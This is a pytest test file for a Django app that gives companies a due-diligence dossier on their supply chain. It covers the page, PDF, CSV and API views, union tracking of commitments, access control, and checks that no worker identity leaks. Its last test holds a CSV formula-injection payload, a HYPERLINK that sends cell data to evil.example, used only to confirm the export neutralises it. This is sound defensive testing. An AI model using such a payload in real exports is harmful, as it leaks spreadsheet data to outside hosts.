"""The company's view of its own chain (dossier page, PDF, CSV, API), the organization's narrative and
its tracking of the company's commitments; and that no worker's identity ever reaches the company."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from doorstep.core.models import AuditEvent
from doorstep.members.services.pii import reveal_pii
from doorstep.organizations import services as org_services
from doorstep.organizations.models import SharingAgreement
from doorstep.supplychains import services
from doorstep.supplychains.models import Commitment, Party

pytestmark = pytest.mark.django_db


def _names_and_numbers(world, shared) -> list[bytes]:
    members = shared.embroiderers + shared.beadworkers
    pii = reveal_pii(members, actor=world.admin_a, reason="test")
    found = []
    for member in members:
        found.append(pii[member.pk]["full_name"].encode())
        found.append(f"#{member.number}".encode())
    return found


def test_the_company_reads_its_dossier_on_the_page_as_pdf_and_csv(world, shared, login):
    services.save_narrative(
        world.org_a,
        world.company,
        {
            "identify": "Embroiderers in Delhi are paid 10 a piece, far below the minimum wage.",
            "remediate": "Back pay for March is owed.",
        },
        actor=world.admin_a,
    )
    client = login(world.company_user)
    assert b"/orgs/brand-c/due-diligence/" in client.get("/").content
    page = client.get("/orgs/brand-c/due-diligence/")
    assert page.status_code == 200
    body = page.content.decode()
    assert "Identify and assess harm" in body and "far below the minimum wage" in body
    assert "Star Exports" in body and "Withheld: fewer than k workers" in body
    assert "Other Agent" not in body  # outside Brand C's chain
    for secret in _names_and_numbers(world, shared):
        assert secret not in page.content

    pdf = client.get("/orgs/brand-c/due-diligence/", {"format": "pdf"})
    assert pdf["Content-Type"] == "application/pdf" and pdf.content.startswith(b"%PDF")
    assert pdf["Content-Disposition"].startswith("attachment")

    response = client.get("/orgs/brand-c/due-diligence/", {"format": "csv", "period": "2026"})
    lines = list(csv.reader(io.StringIO(response.content.decode())))
    assert ["By supplier"] in lines and ["Period", "2026-01-01 – 2026-12-31"] in lines
    # 15 workers before protection; the published count carries cell-key noise of at most 2.
    star = [line for line in lines if line[:1] == ["Star Exports"]]
    assert star and any(line[1].isdigit() and abs(int(line[1]) - 15) <= 2 for line in star)
    for secret in _names_and_numbers(world, shared):
        assert secret not in response.content
    assert AuditEvent.objects.filter(action="aggregates.released", metadata__channel="csv").count() == 4


def test_the_company_commits_and_the_organization_tracks_it(world, shared, login):
    company = login(world.company_user)
    response = company.post(
        "/orgs/brand-c/due-diligence/",
        {
            "organization": world.org_a.pk,
            "step": "remediate",
            "action": "Pay the March arrears through Star Exports",
            "owner": "Head of sourcing",
            "deadline": (timezone.localdate() - timedelta(days=1)).isoformat(),
        },
    )
    assert response.status_code == 302
    commitment = Commitment.objects.get()
    assert commitment.organization == world.org_a and commitment.company == world.company

    union = login(world.organizer_a)
    page = union.get(f"/orgs/union-a/due-diligence/{world.company.pk}/")
    assert b"Pay the March arrears" in page.content and b"overdue" in page.content
    response = union.post(
        f"/orgs/union-a/due-diligence/{world.company.pk}/",
        {
            "action": "track",
            "commitment": commitment.pk,
            "status": "in_progress",
            "note": "Half paid on 3 May",
        },
    )
    assert response.status_code == 302
    commitment.refresh_from_db()
    assert commitment.status == "in_progress" and commitment.status_changed_by == world.organizer_a
    page = company.get("/orgs/brand-c/due-diligence/")
    assert b"Half paid on 3 May" in page.content and b"In progress" in page.content
    bad = union.post(
        f"/orgs/union-a/due-diligence/{world.company.pk}/",
        {"action": "track", "commitment": commitment.pk, "status": "finished"},
    )
    assert bad.status_code == 422


def test_bad_commitments_are_refused_field_by_field_and_only_to_sharing_organizations(world, shared, api):
    client = api(world.company_user)
    response = client.post(
        "/api/v1/commitments",
        {
            "company_id": world.company.pk,
            "organization_id": world.org_a.pk,
            "action": "",
            "owner": "",
            "deadline": "2027-01-01",
        },
        content_type="application/json",
    )
    assert response.status_code == 422
    assert {e["field"] for e in response.json()["errors"]} == {"action", "owner"}
    response = client.post(
        "/api/v1/commitments",
        {
            "company_id": world.company.pk,
            "organization_id": world.org_a.pk,
            "step": "dance",
            "action": "Audit",
            "owner": "CSR",
            "deadline": "2027-01-01",
        },
        content_type="application/json",
    )
    assert response.status_code == 422
    assert [e["field"] for e in response.json()["errors"]] == ["body.payload.step"]
    assert "'identify', 'prevent'" in response.json()["errors"][0]["message"]
    response = client.post(
        "/api/v1/commitments",
        {
            "company_id": world.company.pk,
            "organization_id": world.org_b.pk,
            "action": "Audit",
            "owner": "CSR",
            "deadline": "2027-01-01",
        },
        content_type="application/json",
    )
    assert response.status_code == 422 and response.json()["errors"][0]["field"] == "organization_id"
    assert not Commitment.objects.exists()


def test_the_dossier_api_and_the_commitments_api(world, shared, api):
    company = api(world.company_user)
    made = company.post(
        "/api/v1/commitments",
        {
            "company_id": world.company.pk,
            "organization_id": world.org_a.pk,
            "action": "Raise the piece rate",
            "owner": "Sourcing",
            "deadline": "2027-03-01",
        },
        content_type="application/json",
    )
    assert made.status_code == 201 and made.json()["status"] == "open"
    union = api(world.admin_a)
    saved = union.put(
        f"/api/v1/organizations/{world.org_a.pk}/narratives/{world.company.pk}",
        {"prevent": "Pay at least the minimum wage per hour of work."},
        content_type="application/json",
    )
    assert saved.status_code == 200 and saved.json()[0]["step"] == "prevent"
    tracked = union.patch(
        f"/api/v1/commitments/{made.json()['id']}", {"status": "done"}, content_type="application/json"
    )
    assert tracked.json()["status"] == "done"
    dossier = company.get(f"/api/v1/due-diligence/{world.company.pk}/dossier").json()
    assert set(dossier["tables"]) == {"supplier", "party", "sector", "grievances"}
    assert abs(dossier["tables"]["supplier"]["rows"][0]["figures"]["workers"] - 15) <= 2  # cell-key noise
    assert dossier["narratives"][0]["text"].startswith("Pay at least")
    assert dossier["commitments"][0]["status"] == "done"
    listed = union.get(f"/api/v1/commitments?organization_id={world.org_a.pk}").json()
    assert [c["action"] for c in listed] == ["Raise the piece rate"]
    assert company.get(f"/api/v1/commitments?company_id={world.company.pk}").json()[0]["status"] == "done"


def test_revoking_the_agreement_empties_the_dossier_at_once(world, shared, api):
    services.save_narrative(
        world.org_a, world.company, {"identify": "Confidential words"}, actor=world.admin_a
    )
    org_services.revoke_agreement(SharingAgreement.objects.get(recipient=world.company), actor=world.admin_a)
    dossier = api(world.company_user).get(f"/api/v1/due-diligence/{world.company.pk}/dossier").json()
    assert dossier["organizations"] == [] and dossier["narratives"] == []
    assert all(table["rows"] == [] and table["reason"] for table in dossier["tables"].values())


@pytest.mark.parametrize("who", ["analyst", "admin_b", "worker_a", "organizer_a"])
def test_no_one_else_reads_the_company_dossier(world, shared, api, login, who):
    user = getattr(world, who)
    assert api(user).get(f"/api/v1/due-diligence/{world.company.pk}/dossier").status_code == 404
    assert login(user).get("/orgs/brand-c/due-diligence/").status_code == 404


def test_another_organization_cannot_see_or_track_union_as_commitments(world, shared, api, login):
    commitment = services.add_commitment(
        world.company,
        world.org_a,
        {"action": "Audit", "owner": "CSR", "deadline": "2027-01-01"},
        actor=world.company_user,
    )
    assert (
        api(world.admin_b)
        .patch(f"/api/v1/commitments/{commitment.pk}", {"status": "done"}, content_type="application/json")
        .status_code
        == 404
    )
    # A company user cannot change the organization's tracking either.
    assert (
        api(world.company_user)
        .patch(f"/api/v1/commitments/{commitment.pk}", {"status": "done"}, content_type="application/json")
        .status_code
        == 404
    )
    assert login(world.admin_b).get(f"/orgs/coop-b/due-diligence/{world.company.pk}/").status_code == 404
    commitment.refresh_from_db()
    assert commitment.status == "open"


def test_a_work_giver_renamed_as_a_formula_reaches_the_csv_as_text(world, shared, login):
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Pay")'
    supplier = Party.objects.get(organization=world.org_a, name="Star Exports")
    services.update_party(supplier, data={"name": hostile}, actor=world.admin_a)
    client = login(world.company_user)
    response = client.get("/orgs/brand-c/due-diligence/", {"format": "csv", "from": "2026-01-01"})
    lines = list(csv.reader(io.StringIO(response.content.decode())))
    assert any(line[:1] == ["'" + hostile] for line in lines)
    assert not any(cell.startswith("=") for line in lines for cell in line)
